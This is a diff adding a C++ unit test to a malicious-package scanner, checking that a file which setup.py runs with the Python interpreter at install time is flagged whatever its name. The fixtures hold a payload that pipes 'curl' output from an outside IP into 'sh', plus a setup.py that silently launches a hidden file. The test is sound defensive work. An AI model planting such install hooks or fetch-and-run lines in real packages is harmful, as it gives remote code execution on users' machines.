@@ -101,6 +101,34 @@ TEST_F(ScannerTest, XorEncryptedExecutableInAPythonFileIsMalicious) {
   EXPECT_EQ(r.verdict, Verdict::kMalicious);
 }
 
+// A shipped file without a .py extension that setup.py runs with the Python
+// interpreter is read as install-time Python; the same file unnamed, or a
+// document named by setup.py, is not.
+TEST_F(ScannerTest, FileRunWithTheInterpreterIsPythonWhateverItsName) {
+  const std::string payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
+  const std::string setup =
+      "import os, sys, subprocess\nfrom setuptools import setup\n"
+      "here = os.path.dirname(__file__)\n"
+      "subprocess.Popen([sys.executable, os.path.join(here, 'p', 'stamp')])\n"
+      "long = open(os.path.join(here, 'README.md')).read()\nsetup(name='p')\n";
+  auto in_file = [&](const ScanResult& r, const std::string& file) {
+    return std::any_of(r.findings.begin(), r.findings.end(), [&](const Finding& f) {
+      return f.file == file && f.rule == "install-exec" && f.phase == Phase::kInstall;
+    });
+  };
+  std::string run = testing::MakeTar({File("p-1/setup.py", setup), File("p-1/p/stamp", payload),
+                                      File("p-1/README.md", payload)});
+  ScanResult r = scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", run);
+  EXPECT_TRUE(in_file(r, "p-1/p/stamp"));
+  EXPECT_FALSE(in_file(r, "p-1/README.md"));
+  std::string unnamed = testing::MakeTar({File("p-1/setup.py", setup), File("p-1/p/other", payload)});
+  EXPECT_FALSE(in_file(scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", unnamed), "p-1/p/other"));
+  std::string not_run =
+      testing::MakeTar({File("p-1/setup.py", "from setuptools import setup\nv = open('p/stamp')\n"),
+                        File("p-1/p/stamp", payload)});
+  EXPECT_FALSE(in_file(scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", not_run), "p-1/p/stamp"));
+}
+
 TEST_F(ScannerTest, SourceTreeOnDisk) {
   namespace fs = std::filesystem;
   fs::path dir = fs::temp_directory_path() / ("pyward_tree_" + std::to_string(::getpid()));
